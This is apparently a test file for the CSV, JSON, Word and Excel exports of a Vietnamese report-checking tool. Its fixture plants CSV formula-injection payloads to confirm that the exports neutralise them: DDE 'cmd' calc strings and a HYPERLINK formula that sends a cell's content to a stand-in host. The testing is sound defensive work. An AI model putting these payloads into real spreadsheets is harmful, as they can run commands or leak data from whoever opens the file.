// The downloads: as pure functions (what Excel receives in the CSV, how what-if edits travel in the
// CSV and the JSON, the summary's wording), then in Chromium the correction letter (.docx) and the
// marked tables (.xlsx), read back by python-docx and openpyxl (tests/support/read_export.py).
// Runs in node with the rest of e2e/ (`node --test e2e/`).
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { resultsCsv, resultsJson, csvField, textSummary } from '../www/lib/exports.mjs';
import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { execFileSync } from 'node:child_process';
import { parseCsv, spreadsheetWouldRun, serverAndBrowser, openApp, paste, after, SEED, ROOT, SCREENSHOTS, eventually } from './helpers.mjs';

const env = serverAndBrowser();

/**
 * A result as the core returns it, with hostile text in every field a unit controls (the
 * indicator, the unit, the note, the figure) and in the core's own strings that quote the input.
 * @param {Record<string, string>} [values]
 */
function hostileResult(values = {}) {
  const rows = [
    { cell: 'B03/3.1', stt: '3.1', depth: 1, indicator: '=HYPERLINK("http://x.example/?"&D3,"Bấm vào đây")', unit: '%', value: values['B03/3.1'] ?? '99,59', note: '', line: 4 },
    { cell: 'B03/3.1.1', stt: '3.1.1', depth: 2, indicator: '+Tổng số TTHC', unit: '\t=1+1', value: values['B03/3.1.1'] ?? '66.959', note: '', line: 5 },
    { cell: 'B03/3.1.2', stt: '3.1.2', depth: 2, indicator: '\r=2+2', unit: '－1+1', value: values['B03/3.1.2'] ?? '66.687', note: '', line: 6 },
    { cell: 'B03/3.2', stt: '3.2', depth: 1, indicator: '-5+A1', unit: '@SUM(1+1)*cmd|\' /C calc\'!A0', value: values['B03/3.2'] ?? '-5', note: '', line: 7 },
    { cell: 'B03/3.3', stt: '3.3', depth: 1, indicator: 'Số hồ sơ trễ hạn', unit: 'Hồ sơ', value: '-', note: '', line: 8 },
  ];
  return {
    forms: [{ form: 'B03', title: '=cmd|\'/C calc\'!A0', rows: rows.length, recognition: 'title', line: 3, table: rows }],
    checks: [
      { id: 'c1', kind: 'ratio', status: 'fail', cells: ['B03/3.1', 'B03/3.1.2', 'B03/3.1.1'], reported: '99,59', expected: '99,60', imbalance: '-0,01', formula: '=B03/3.1.2/B03/3.1.1×100', message: '=HYPERLINK("http://x.example") sai', inferred: false, line: 4, quote: null },
      { id: 'c2', kind: 'sum', status: 'pass', cells: ['B03/3.2'], reported: '-5', expected: '-1,5', imbalance: '+3,5', formula: null, message: 'Đạt', inferred: true, line: 7, quote: null },
      { id: 'c3', kind: 'range', status: 'pass', cells: ['B03/3.1.1'], reported: null, expected: null, imbalance: null, formula: null, message: 'Đạt', inferred: false, line: 5, quote: null },
      { id: 'c4', kind: 'range', status: 'pass', cells: ['B03/3.1.2'], reported: null, expected: null, imbalance: null, formula: null, message: 'Đạt', inferred: false, line: 6, quote: null },
      { id: 'c5', kind: 'parse', status: 'na', cells: ['B03/3.3'], reported: '-', expected: null, imbalance: null, formula: null, message: 'Không có số liệu', inferred: false, line: 8, quote: null },
      { id: 'n1', kind: 'narrative', status: 'warn', cells: [], reported: '-12', expected: '-12,5', imbalance: '-0,5', formula: '@A1', message: '-Câu sai', inferred: false, line: 20, quote: '=1+1 đơn vị' },
    ],
    summary: { pass: 3, fail: 1, warn: 1, na: 1 },
    notices: [],
  };
}

test('CSV: no field reaches a spreadsheet as a formula, and negative figures stay numbers', () => {
  const csv = resultsCsv(/** @type {any} */ (hostileResult()), { all: true });
  const rows = parseCsv(csv);
  assert.ok(rows.length >= 4);
  const fields = rows.flat();
  for (const f of fields) assert.ok(!spreadsheetWouldRun(f), `a field a spreadsheet would run: ${JSON.stringify(f)}`);
  // The hostile text is kept, made inert by a leading apostrophe (what Excel itself uses).
  assert.ok(fields.includes('\'=HYPERLINK("http://x.example/?"&D3,"Bấm vào đây")'));
  assert.ok(fields.includes('\'@SUM(1+1)*cmd|\' /C calc\'!A0'));
  assert.ok(fields.includes('\'+Tổng số TTHC'));
  assert.ok(fields.includes('\'\t=1+1'));
  assert.ok(fields.includes('\'\r=2+2'));
  assert.ok(fields.includes('\'－1+1'));
  assert.ok(fields.includes('\'-5+A1'));
  assert.ok(fields.includes('\'=HYPERLINK("http://x.example") sai'));
  assert.ok(fields.includes('\'=1+1 đơn vị'));
  // Figures, signed or not, are written as they were printed.
  for (const n of ['-5', '-1,5', '-0,01', '+3,5', '-12', '-12,5', '-0,5', '99,59', '66.959']) {
    assert.ok(fields.includes(n), `${n} should stay a number`);
  }
  // A lone dash (no figure, as many tables print it) cannot start a formula and is kept.
  assert.ok(fields.includes('-'));
});

test('csvField quotes and neutralises one value at a time', () => {
  assert.equal(csvField('=1+1'), "'=1+1");
  assert.equal(csvField('=A1,B1'), '"\'=A1,B1"');
  assert.equal(csvField('-1.234,5'), '"-1.234,5"');
  assert.equal(csvField('-3%'), '-3%');
  assert.equal(csvField('-3 - 2'), "'-3 - 2");
  assert.equal(csvField(' =1+1'), "' =1+1");
  assert.equal(csvField(-7), '-7');
  assert.equal(csvField(null), '');
  assert.equal(csvField('Số "ghi"'), '"Số ""ghi"""');
});

test('CSV and JSON carry the printed figure beside a what-if edit, and mark it', () => {
  // 66.687 printed; the official tried 66.678 in a meeting. The core saw 66.678 (the override).
  const edits = { 'B03/3.1.2': { value: '66.678', original: '66.687' } };
  const result = /** @type {any} */ (hostileResult({ 'B03/3.1.2': '66.678' }));
  const rows = parseCsv(resultsCsv(result, { edits, all: true }));
  const header = rows[0];
  const col = (/** @type {string} */ name) => {
    const i = header.indexOf(name);
    assert.ok(i >= 0, `column ${name} in ${header.join(' | ')}`);
    return i;
  };
  const original = col('Số liệu gốc (in trong báo cáo)');
  const tried = col('Thử sửa');
  const value = col('Số liệu');
  const about = rows.find((r) => r[1] === 'B03/3.1');
  assert.ok(about);
  // The check about 3.1 used the edited 3.1.2: the line says so, with both figures.
  assert.match(about[tried], /B03\/3\.1\.2: 66\.687 → 66\.678/);
  assert.equal(about[original], '');
  // A check about an unedited cell has neither.
  const other = rows.find((r) => r[1] === 'B03/3.2');
  assert.ok(other);
  assert.equal(other[tried], '');
  assert.equal(other[original], '');
  // Without edits the columns are there and empty (one layout for every file).
  const plain = parseCsv(resultsCsv(/** @type {any} */ (hostileResult()), { all: true }));
  assert.deepEqual(plain[0], header);
  assert.ok(plain.slice(1).every((r) => r[tried] === '' && r[original] === ''));
  assert.ok(rows.slice(1).every((r) => r.length === header.length));
  assert.equal(value >= 0, true);

  const json = JSON.parse(resultsJson(result, { edits }));
  const row = json.forms[0].table.find((/** @type {any} */ r) => r.cell === 'B03/3.1.2');
  assert.equal(row.value, '66.678');
  assert.equal(row.original, '66.687');
  assert.equal(row.edited, true);
  assert.deepEqual(json.edits, [{ cell: 'B03/3.1.2', original: '66.687', value: '66.678' }]);
  const untouched = json.forms[0].table.find((/** @type {any} */ r) => r.cell === 'B03/3.1');
  assert.equal('edited' in untouched, false);
  // The result passed in is not changed (the page keeps showing it).
  assert.equal('original' in result.forms[0].table[2], false);
  // No edits: the core's document as it was, and no "edits" key.
  assert.deepEqual(JSON.parse(resultsJson(result)), result);
});

test('CSV: the checks about an edited cell give its printed figure', () => {
  const edits = { 'B03/3.2': { value: '7', original: '-5' } };
  const rows = parseCsv(resultsCsv(/** @type {any} */ (hostileResult({ 'B03/3.2': '7' })), { edits, all: true }));
  const header = rows[0];
  const line = rows.find((r) => r[1] === 'B03/3.2');
  assert.ok(line);
  assert.equal(line[header.indexOf('Số liệu')], '7');
  assert.equal(line[header.indexOf('Số liệu gốc (in trong báo cáo)')], '-5');
  assert.match(line[header.indexOf('Thử sửa')], /^B03\/3\.2: -5 → 7$/);
});

/**
 * The seed's form 03 with row 3.1.2 mistyped (66.687 → 66.867), as the core answers it: the ratio
 * of row 3.1 fails, and localisation says the part, not the ratio, is the likely mistake.
 */
function mistypedPart() {
  const rows = [
    { cell: 'B03/3.1', stt: '3.1', depth: 1, indicator: 'Tỷ lệ hồ sơ giải quyết đúng hạn', unit: '%', value: '99,59', note: '', line: 553 },
    { cell: 'B03/3.1.1', stt: '3.1.1', depth: 2, indicator: 'Tổng số TTHC đã giải quyết xong', unit: 'Hồ sơ', value: '66.959', note: '', line: 554 },
    { cell: 'B03/3.1.2', stt: '3.1.2', depth: 2, indicator: 'Số hồ sơ TTHC đã giải quyết đúng hạn', unit: 'Hồ sơ', value: '66.867', note: '', line: 555 },
  ];
  return {
    about: { unit: 'Ủy ban nhân dân tỉnh Khánh Hòa', period: 'Quý III/2024' },
    forms: [{ form: 'B03', title: 'Kiểm soát TTHC', rows: 3, recognition: 'title', line: 550, table: rows }],
    checks: [
      { id: 'ratio:B03/3.1', kind: 'ratio', status: 'fail', cells: ['B03/3.1', 'B03/3.1.2', 'B03/3.1.1'], reported: '99,59', expected: '99,86', imbalance: '-0,27', formula: '66.867 / 66.959 × 100',
        message: 'Dòng 3.1 «Tỷ lệ hồ sơ giải quyết đúng hạn»: tỷ lệ ghi 99,59% nhưng 66.867 / 66.959 = 99,86% (chênh 0,27 điểm %).', inferred: false, line: 553, quote: null, suggestions: [0] },
      { id: 'count:B03/3.1.1', kind: 'count', status: 'pass', cells: ['B03/3.1.1'], reported: null, expected: null, imbalance: null, formula: null, message: 'Đạt', inferred: false, line: 554, quote: null },
    ],
    summary: { pass: 1, fail: 1, warn: 0, na: 0 },
    notices: [],
    suggestions: [{ cell: 'B03/3.1.2', current: '66.867', suggested: '66.687', confidence: 'high', typo: 'swap', explains: ['ratio:B03/3.1'],
      message: 'Nhiều khả năng ô B03/3.1.2 bị gõ đảo hai chữ số: 66.867 → 66.687.' }],
  };
}

test('summary: unit and period named, each row named once, the likely mistyped part blamed rather than the total', () => {
  const text = textSummary(/** @type {any} */ (mistypedPart()), { source: 'tệp bao-cao.docx', when: new Date(2026, 11, 3, 9, 5) });
  assert.match(text, /\nĐơn vị báo cáo: Ủy ban nhân dân tỉnh Khánh Hòa\nKỳ báo cáo: Quý III\/2024\nTệp: tệp bao-cao.docx\n/);
  // «Biểu mẫu số 03, dòng 3.1: Dòng 3.1 …» said the row twice.
  assert.match(text, /\n- Biểu mẫu số 03: Dòng 3\.1 «/);
  assert.doesNotMatch(text, /dòng ([\d.]+): Dòng \1\b/i);
  // Not «đúng ra 99,86»: the part 3.1.2 is the likely mistake, with the digits put back.
  assert.doesNotMatch(text, /đúng ra/);
  assert.match(text, /nhiều khả năng sai ở Biểu mẫu số 03, dòng 3\.1\.2: 66\.867 → 66\.687/);
  // No sentence of the summary is said twice.
  const sentences = text.split('\n').filter((l) => l.trim());
  assert.equal(new Set(sentences).size, sentences.length);
  // Without suggestions, a total is «cộng các phần được», not «đúng ra».
  const r = /** @type {any} */ (mistypedPart());
  r.suggestions = [];
  r.checks[0].suggestions = [];
  assert.match(textSummary(r), /\[ghi 99,59, tính lại được 99,86\]/);
});

test('CSV: problems only by default, every check on request; fields split on ";" and keep figures whole', () => {
  const result = /** @type {any} */ (mistypedPart());
  const few = resultsCsv(result);
  assert.ok(few.startsWith('\uFEFF'));
  const rows = parseCsv(few);
  assert.equal(rows.length, 2);
  assert.ok(rows.every((r) => r.length === rows[0].length));
  const line = rows[1];
  assert.deepEqual([line[1], line[2], line[9], line[10]], ['B03/3.1', '3.1', '99,59', '99,86']);
  // The separator is ';' and nothing else splits: a comma inside a figure stays in its column.
  assert.equal(few.split('\r\n')[0].split(';').length, rows[0].length);
  assert.equal(parseCsv(resultsCsv(result, { all: true })).length, 3);
});

/**
 * Reads an exported file with python-docx / openpyxl, in the venv scripts/setup.sh installs
 * (installed here when missing, as tests/export.rs does).
 * @param {string} path
 */
function readExport(path) {
  const py = join(ROOT, '.venv-export', 'bin', 'python');
  if (!existsSync(py)) {
    execFileSync('python3', ['-m', 'venv', join(ROOT, '.venv-export')]);
    execFileSync(join(ROOT, '.venv-export', 'bin', 'pip'), ['install', '--quiet', '--disable-pip-version-check', 'python-docx', 'openpyxl']);
  }
  return JSON.parse(execFileSync(py, [join(ROOT, 'tests', 'support', 'read_export.py'), path], { encoding: 'utf8' }));
}

/**
 * A download saved under its own extension (Playwright keeps it under a random name without one,
 * and the reader picks python-docx or openpyxl by the extension).
 * @param {import('playwright-core').Download} download
 * @param {string} [ext]
 */
async function savedAs(download, ext = 'docx') {
  const path = join(ROOT, 'e2e', 'test-results', `export-${Date.now()}.${ext}`);
  await download.saveAs(path);
  return path;
}

test('in Chromium: the letter and the marked tables download and read back with the problem, its culprit, unit and period', async () => {
  const context = await env.browser.newContext({ serviceWorkers: 'block', acceptDownloads: true });
  const page = await openApp(context, env.server.url);
  // The seed with one part mistyped (two digits swapped): the ratio above it fails.
  const row = '3.1.2.\tSố hồ sơ TTHC đã giải quyết đúng hạn\tHồ sơ\t66.687';
  assert.ok(SEED.includes(row));
  await after(page, () => paste(page, { plain: SEED.replace(row, row.replace('66.687', '66.867')) }));
  await eventually(async () => (await page.locator('tr[data-cell="B03/3.1"] .ks-mark').count()) > 0);

  const [docx] = await Promise.all([page.waitForEvent('download', { timeout: 60000 }), page.getByRole('button', { name: 'Phiếu rà soát (.docx)' }).click()]);
  assert.match(docx.suggestedFilename(), /^kiemso-phieu-ra-soat-\d{4}-\d{2}-\d{2}-\d{4}\.docx$/);
  const letter = readExport(await savedAs(docx));
  const paragraphs = letter.paragraphs.join('\n');
  assert.match(paragraphs, /Đơn vị báo cáo: Ủy ban nhân dân tỉnh Khánh Hòa/);
  assert.match(paragraphs, /Kỳ báo cáo: Quý III\/2024/);
  const ratio = letter.tables[0].find((/** @type {string[]} */ r) => r[1] === 'Biểu mẫu số 03' && r[2] === '3.1');
  assert.ok(ratio, 'the failed ratio is in the letter');
  assert.equal(ratio[4], '99,59');
  assert.match(ratio[5], /99,86/);
  assert.match(ratio[5], /dòng 3\.1\.2: 66\.867 → 66\.687/);

  const [xlsx] = await Promise.all([page.waitForEvent('download', { timeout: 60000 }), page.getByRole('button', { name: 'Bảng có đánh dấu (.xlsx)' }).click()]);
  const book = readExport(await savedAs(xlsx, 'xlsx'));
  const cells = book.sheets['Biểu mẫu số 03'].cells;
  const noted = cells.filter((/** @type {any} */ c) => c.comment);
  assert.ok(noted.some((/** @type {any} */ c) => c.value === '99,59' && c.fill === 'FFFFC7CE' && /99,86/.test(c.comment)));
  assert.ok(noted.some((/** @type {any} */ c) => c.value === '66.867' && c.fill && /66\.687/.test(c.comment)));
  const first = book.sheets['Cần xem lại'].cells.map((/** @type {any} */ c) => c.value).join('\n');
  assert.match(first, /Ủy ban nhân dân tỉnh Khánh Hòa/);
  assert.match(first, /Quý III\/2024/);
  assert.deepEqual(page.errors, []);
  await context.close();
});

test('in Chromium: an opened .xlsx comes back as itself, the problem cells filled and noted, read back by openpyxl', async () => {
  const context = await env.browser.newContext({ serviceWorkers: 'block', acceptDownloads: true });
  const page = await openApp(context, env.server.url);
  // Generated by scripts/make-annotate-fixtures.py: the seed's workbook with row 3.1.2 of form 03
  // mistyped, and notes of its own.
  const original = join(ROOT, 'tests', 'fixtures', 'annotate', 'edited.xlsx');
  const before = readFileSync(original);
  const button = page.getByRole('button', { name: 'Tải tệp gốc có đánh dấu (.xlsx)' });
  assert.equal(await button.count(), 0, 'nothing opened: nothing to annotate');
  await after(page, () => page.locator('#file').setInputFiles({
    name: 'bao-cao-quy-3.xlsx',
    mimeType: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
    buffer: before,
  }));
  await eventually(async () => (await page.locator('tr[data-cell="B03/3.1"] .ks-mark').count()) > 0);
  const [download] = await Promise.all([page.waitForEvent('download', { timeout: 60000 }), button.click()]);
  assert.equal(download.suggestedFilename(), 'bao-cao-quy-3-kiemso-danh-dau.xlsx');
  await eventually(async () => /ô được tô màu và ghi chú/.test(await page.locator('#status').innerText()));
  await page.locator('.toolbar').screenshot({ path: join(SCREENSHOTS, 'annotated-original.png') });
  const path = await savedAs(download, 'xlsx');
  const read = JSON.parse(execFileSync(join(ROOT, '.venv-export', 'bin', 'python'), [join(ROOT, 'tests', 'support', 'read_annotated.py'), original, path], { encoding: 'utf8' }));
  const ratio = Object.values(read.after).find((/** @type {any} */ c) => c.comment && /Dòng 3\.1 «/.test(c.comment));
  assert.ok(ratio, 'the failed ratio has a note');
  assert.equal(ratio.fill, 'FFFFC7CE');
  assert.equal(ratio.format, '0.00%');
  assert.match(ratio.comment, /99,86/);
  const culprit = Object.values(read.after).find((/** @type {any} */ c) => c.value === '66867');
  assert.match(culprit.comment, /^Số liệu do Trung tâm Phục vụ hành chính công cung cấp\./);
  assert.match(culprit.comment, /66\.867 → 66\.687/);
  assert.deepEqual(read.entries.dropped, []);
  assert.deepEqual(read.entries.recompressed, []);
  await eventually(async () => /ô được tô màu và ghi chú/.test(await page.locator('#status').innerText()));
  assert.deepEqual(page.errors, []);
  await context.close();
});
